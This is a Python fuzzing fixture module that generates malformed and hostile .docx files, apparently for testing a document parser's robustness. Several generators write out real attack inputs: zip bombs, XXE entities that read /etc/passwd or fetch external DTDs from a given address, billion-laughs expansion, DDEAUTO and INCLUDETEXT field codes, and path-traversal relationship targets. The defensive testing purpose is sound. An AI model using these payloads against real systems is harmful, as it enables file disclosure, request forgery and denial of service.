"""Word documents changed, and made to hurt."""

from __future__ import annotations

import io
import random
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Final

from tests.support.fuzz.documents import PLAN, docx_bytes, docx_damaged
from tests.support.mutants.texts import changed, cut, holed

_WORD: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE: Final = "http://schemas.openxmlformats.org/package/2006"
_BODY: Final = "word/document.xml"


def plain(rng: random.Random, _: str = "") -> bytes:
    """A document as it should be."""
    return docx_bytes([*PLAN, *(f"第{n}条 教师在校答疑。" for n in range(30))], rng)


def _line(text: str, before: str = "") -> str:
    return f"<w:p>{before}<w:r><w:t>{text}</w:t></w:r></w:p>"


_LINES: Final = "".join(map(_line, PLAN))


def _document(body: str, told: str = "") -> str:
    names = f'xmlns:w="{_WORD}" xmlns:r="{_OFFICE}"'
    return f"{told}<w:document {names}><w:body>{body}</w:body></w:document>"


def _parts(body: str, **others: str | bytes) -> dict[str, bytes]:
    relation = '<Relationship Id="{}" Type="{}/{}" Target="{}"/>'
    main = relation.format("r1", _OFFICE, "officeDocument", _BODY)
    inner = "".join(
        relation.format(f"r{kind}", _OFFICE, kind, f"{kind}.xml")
        for kind in ("styles", "numbering")
    )
    found: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types"/>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}/relationships">{main}</Relationships>',
        "word/_rels/document.xml.rels": (
            f'<Relationships xmlns="{_PACKAGE}/relationships">{inner}</Relationships>'
        ),
        _BODY: _document(body),
        **others,
    }
    return {n: each.encode() if isinstance(each, str) else each for n, each in found.items()}


def _packed(parts: Mapping[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return made.getvalue()


def _unpacked(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def _swapped(rng: random.Random, _: str) -> bytes:
    parts = _unpacked(plain(rng))
    one, other = rng.sample(list(parts), 2)
    parts[one], parts[other] = parts[other], parts[one]
    return _packed(parts)


def _twice(rng: random.Random, _: str) -> bytes:
    made = io.BytesIO(plain(rng))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(made, "a") as package:
            name = rng.choice((_BODY, "_rels/.rels", _BODY.upper(), "word\\document.xml"))
            package.writestr(name, rng.choice((b"", b"<x/>", _document(_LINES).encode())))
    return made.getvalue()


def _lengths(rng: random.Random, _: str) -> bytes:
    """A length, a place or a way of packing in the archive's directory is another."""
    data = bytearray(plain(rng))
    mark, fields = rng.choice(
        ((b"PK\1\2", (8, 10, 16, 20, 24, 28, 42)), (b"PK\3\4", (6, 8, 14, 18, 22, 26)))
    )
    at = data.find(mark)
    for _step in range(rng.randint(0, 2)):
        at = data.find(mark, at + 4) if data.find(mark, at + 4) > 0 else at
    size = rng.choice((0, 1, 0x7FFF, 0xFFFF, 0xFFFFFFFF, 0x7FFFFFFF))
    field = at + rng.choice(fields)
    wide = 2 if field - at in (6, 8, 10, 26, 28) and mark else 4
    data[field : field + wide] = struct.pack("<I", size)[:wide]
    return bytes(data)


def _locked(rng: random.Random, _: str) -> bytes:
    if rng.random() < 0.5:
        name = "EncryptedPackage".encode("utf-16-le")
        return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(1000) + name + rng.randbytes(5000)
    data = bytearray(plain(rng))
    for mark, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + flags] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def _bomb(rng: random.Random, _: str) -> bytes:
    kind = rng.randrange(4)
    size = rng.choice((9_000_000, 45_000_000, 120_000_000))
    if kind == 0:
        return _packed(_parts(_line("讲" * (size // 3))))
    if kind == 1:
        return _packed(_parts("<w:p/>" * (size // 6)))
    if kind == 2:
        return _packed({**_parts(_LINES), "word/styles.xml": b" " * size})
    return _overlapping(_parts(_LINES), size)


def _overlapping(parts: Mapping[str, bytes], size: int) -> bytes:
    """Many names for one packed part."""
    made = bytearray()
    directory = bytearray()
    for name, data in {**parts, "word/media/0": bytes(size)}.items():
        deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = deflate.compress(data) + deflate.flush()
        numbers = (20, 0, 8, 0, 0, zlib.crc32(data), len(packed), len(data))
        start = len(made)
        made += struct.pack("<4s5H3I2H", b"PK\3\4", *numbers, len(name), 0) + name.encode() + packed
        for copy in range(2000 if name == "word/media/0" else 1):
            own = name if not copy else f"word/media/{copy}"
            directory += struct.pack(
                "<4s6H3I5H2I", b"PK\1\2", 20, *numbers, len(own), 0, 0, 0, 0, 0, start
            )
            directory += own.encode()
    count = 2000 + len(parts)
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(directory), len(made), 0)
    return bytes(made + directory + end)


def _entities(rng: random.Random, address: str) -> bytes:
    laughs = '<!ENTITY a "讲讲讲讲讲讲讲讲">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    )
    told = rng.choice(
        (
            '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            f'<!DOCTYPE d [<!ENTITY x SYSTEM "http://{address}/x">]>',
            f'<!DOCTYPE d [<!ENTITY % p SYSTEM "http://{address}/p">%p;]>',
            f'<!DOCTYPE d SYSTEM "http://{address}/d"[]>',
            f"<!DOCTYPE d [{laughs}<!ENTITY x '&j;'>]>",
        )
    )
    name = rng.choice((_BODY, "word/styles.xml", "word/numbering.xml", "_rels/.rels"))
    parts = _parts(_LINES)
    if name == _BODY:
        parts[name] = _document(_line("&x;"), told).encode()
    else:
        root = parts.get(name, f'<w:styles xmlns:w="{_WORD}">&x;</w:styles>'.encode())
        parts[name] = told.encode() + root
    return _packed(parts)


def _macros(rng: random.Random, _: str) -> bytes:
    parts = _parts(_LINES)
    parts["word/vbaProject.bin"] = bytes.fromhex("d0cf11e0a1b11ae1") + rng.randbytes(9000)
    parts["word/activeX/activeX1.bin"] = rng.randbytes(900)
    parts["word/embeddings/oleObject1.bin"] = rng.randbytes(900)
    return _packed(parts)


def _links(rng: random.Random, address: str) -> bytes:
    kinds = ("image", "attachedTemplate", "oleObject", "hyperlink", "aFChunk", "styles", "header")
    targets = (f"http://{address}/x", "file:///etc/passwd", f"\\\\{address}\\x", "../../../../x")
    outside = (' TargetMode="External"', "")
    rows = "".join(
        f'<Relationship Id="r{n}" Type="{_OFFICE}/{kind}" Target="{rng.choice(targets)}"'
        f"{rng.choice(outside)}/>"
        for n, kind in enumerate(kinds)
    )
    fields = "".join(
        f'<w:p><w:r><w:instrText>{word} "http://{address}/x"</w:instrText></w:r></w:p>'
        for word in ("INCLUDETEXT", "INCLUDEPICTURE", "DDEAUTO", "LINK")
    )
    parts = _parts(f'{fields}<w:altChunk r:id="r4"/>{_LINES}')
    parts["word/_rels/document.xml.rels"] = (
        f'<Relationships xmlns="{_PACKAGE}/relationships">{rows}</Relationships>'.encode()
    )
    return _packed(parts)


def _nested(rng: random.Random, _: str) -> bytes:
    depth = rng.choice((18, 50, 5000, 200_000))
    opened, closed = rng.choice(
        (
            ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
            ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
            ("<w:p><w:ins>", "</w:ins></w:p>"),
            ("<w:p><w:r><w:txbxContent>", "</w:txbxContent></w:r></w:p>"),
        )
    )
    return _packed(_parts(opened * depth + _line(PLAN[0]) + closed * depth + _LINES))


def _targets(rng: random.Random, _: str) -> bytes:
    target = rng.choice(
        (
            "word/_rels/document.xml.rels",
            "_rels/.rels",
            "../../../../../etc/passwd",
            "/",
            "",
            "word",
        )
    )
    parts = _parts(_LINES)
    name = rng.choice(("_rels/.rels", "word/_rels/document.xml.rels"))
    old = b'Target="word/document.xml"' if name == "_rels/.rels" else b'Target="styles.xml"'
    parts[name] = parts[name].replace(old, f'Target="{target}"'.encode())
    return _packed(parts)


def _numbers(rng: random.Random, _: str) -> bytes:
    """Numbers of lists, merged cells and styles beyond all measure; styles in a circle."""
    huge = rng.choice(("99999999999999999999", "-1", "1e9", "", "٣", "2147483648", "x" * 100_000))
    listed = f'<w:pPr><w:numPr><w:ilvl w:val="{huge}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    first = '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    styled = '<w:pPr><w:pStyle w:val="a"/></w:pPr>'
    span = f'<w:tcPr><w:gridSpan w:val="{huge}"/><w:vMerge/></w:tcPr>'
    table = f"<w:tbl><w:tr><w:tc>{span}{_line('讲')}</w:tc></w:tr></w:tbl>" * 3
    body = _line("甲", listed) + _line("乙", first) * 3 + _line("丙", styled) + table + _LINES
    level = (
        f'<w:lvl w:ilvl="0"><w:start w:val="{huge}"/><w:numFmt w:val="chineseCounting"/>'
        f'<w:lvlText w:val="{"%1" * rng.choice((1, 9000))}"/></w:lvl>'
    )
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="{one}"><w:basedOn w:val="{other}"/></w:style>'
        for one, other in (("a", "b"), ("b", "c"), ("c", "a"))
    )
    return _packed(
        {
            **_parts(body),
            "word/numbering.xml": (
                f'<w:numbering xmlns:w="{_WORD}"><w:abstractNum w:abstractNumId="{huge}">{level}'
                f'</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="{huge}"/></w:num>'
                "</w:numbering>"
            ).encode(),
            "word/styles.xml": f'<w:styles xmlns:w="{_WORD}">{styles}</w:styles>'.encode(),
        }
    )


def _long(rng: random.Random, _: str) -> bytes:
    kind = rng.randrange(5)
    if kind == 0:
        return _packed(_parts(_line("周五组织学生自主阅读，" * 150_000)))
    if kind == 1:
        return _packed(_parts("<w:p/>" * 300_000 + _LINES))
    if kind == 2:
        return _packed(_parts("<w:p>" + "<w:r><w:t>讲</w:t></w:r>" * 150_000 + "</w:p>"))
    if kind == 3:
        row = "<w:tr>" + f"<w:tc>{_line('讲新课')}</w:tc>" * 400 + "</w:tr>"
        return _packed(_parts(f"<w:tbl>{row * 60}</w:tbl>{_LINES}"))
    return _packed(_parts(_line("\u202e讲\u200f" * 500_000)))


def _coded(rng: random.Random, _: str) -> bytes:
    coding = rng.choice(("utf-16", "gb18030", "utf-7", "ebcdic", "utf-8", "utf-32"))
    told = f'<?xml version="1.0" encoding="{coding}"?>'
    real = rng.choice(("utf-8", "utf-16", "gb18030", "utf-32"))
    return _packed({**_parts(""), _BODY: _document(_LINES, told).encode(real)})


def _by(change: Callable[[bytes, random.Random], bytes]) -> Callable[[random.Random, str], bytes]:
    return lambda rng, _: change(plain(rng), rng)


KINDS: Final[Mapping[str, Callable[[random.Random, str], bytes]]] = {
    "cut.docx": _by(cut),
    "bits.docx": _by(changed),
    "holed.docx": _by(holed),
    "xml.docx": _by(docx_damaged),
    "swapped.docx": _swapped,
    "twice.docx": _twice,
    "lengths.docx": _lengths,
    "locked.docx": _locked,
    "bomb.docx": _bomb,
    "entities.docx": _entities,
    "macros.docm": _macros,
    "links.docx": _links,
    "nested.docx": _nested,
    "targets.docx": _targets,
    "numbers.docx": _numbers,
    "long.docx": _long,
    "encodings.docx": _coded,
}
